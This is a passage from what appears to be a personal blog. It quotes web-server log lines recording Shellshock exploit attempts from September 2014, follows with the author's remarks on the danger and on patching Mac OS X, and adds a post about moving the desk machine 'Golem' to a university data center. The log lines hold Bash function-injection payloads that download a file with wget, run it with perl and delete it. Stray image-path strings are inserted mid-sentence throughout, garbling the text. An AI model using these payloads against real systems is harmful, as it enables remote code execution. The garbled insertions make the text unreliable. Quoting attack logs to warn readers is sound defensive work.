/var/tmp/wow1;perl/var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:40 -0500] "GET /cgi-bin/ HTTP/1.0" 301 394 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:40 -0500] "GET /test HTTP/1.0" 301 383 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:40 -0500] "GET /cgi-bin/ HTTP/1.0" 301 394 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" -  - - -[26/Sep/2014:03:29:41 -0500] "GET /cgi-bin/php HTTP/1.0" 404 359 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:41 -0500] "GET /cgi-bin/php5 HTTP/1.0" 404 360 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - [26/Sep/2014:03:29:41 -0500] "GET /cgi-bin/php.fcgi HTTP/1.0" 404 364 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - [26/Sep/2014:03:29:41 -0500] "GET /test HTTP/1.0" 404 352 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:41 -0500] "GET /cgi-bin/ HTTP/1.0" 404 363 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:03:29:41 -0500] "GET /cgi-bin/ HTTP/1.0" 404 363 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - [26/Sep/2014:03:29:41 -0500] "GET /cgi-bin/ HTTP/1.0" 404 363 "-" "() { :;}; /bin/bash -c \"wget -O /var/tmp/wow1;perl /var/tmp/wow1;rm -rf /var/tmp/wow1\"" "-" - - - - - [26/Sep/2014:14:39:29 -0500] "GET / HTTP/1.1" 301 385 "-" "() { :;}; /bin/bash -c \"wget --delete-after\"" "-" - - - - - [26/Sep/2014:14:39:30 -0500] "GET / HTTP/1.1" 200 155 "-" "() { :;}; /bin/bash -c \"wget --delete-after\"" "-" - - - - - [26/Sep/2014:15:09:21 -0500] "GET /category/2007/07/making_adscft_precise.html%0A HTTP/1.1" 301 431 "-" "() { :;}; echo -e 'detector'" "-" - - - - - [26/Sep/2014:15:09:23 -0500] "GET/category/2007/07/making_adscft_precise.html%0D%0A HTTP/1.1" 301 434 "-" "() { :;}; echo -e 'detector'" "-" - - - - - [26/Sep/2014:15:09:24 -0500] "GET/category/2007/07/making_adscft_precise.html%0d%0aHTTP/1.1" 404 393 "-" "() { :;}; echo -e 'detector'" "-" - - - - - [26/Sep/2014:15:09:33 -0500] "GET /category/2007/07/making_adscft_precise.html%0a HTTP/1.1" 404 392 "-" "() { :;}; echo -e 'detector'" "-" - - - - - [26/Sep/2014:15:11:41 -0500] "GET /category/2008/02/bruce_bartlett_on_the_charged.html%0A HTTP/1.1" 301 439 "-" "() { :;}; echo -e 'detector'" "-" - - - - - [26/Sep/2014:15:11:44 -0500] "GET /category/2008/02/bruce_bartlett_on_the_charged.html%0a HTTP/1.1" 404 400 "-" "() { :;}; echo -e 'detector'" "-" - - -

Some of these look like harmless probes; others (like the one which tries to download and run an IRCbot on your machine) less so.

If you’re not running a webserver, the danger is less clear. There are persistent (but apparently incorrect) rumours that Apple’s DHCP client may be vulnerable. If true, then your iPhone could easily be pwned by a rogue DHCP server (running on someone’s laptop) at Starbucks.

I don’t know what to do about your iPhone, but at least you can patch your MacOSX machine yourself.

Posted by distler at 12:58 PM | Permalink | Followups (2)

August 19, 2014Golem V

For nearly 20 years, Golem has been the machine on my desk. It’s been my mail server, web server, file server, … ; it’s run Mathematica and TeX and compiled software for me. Ofcourse, it hasn’t been the same physical machine all theseyears. Like Doctor Who, it’s gone through several reincarnations.

Alas, word came down from the Provost that all “servers” must move (physically or virtually) to the University Data Center. And, bewilderingly, the machine on my desk counted as a “server.”Posted by distler at 3:05 PM |Permalink | Followups (15)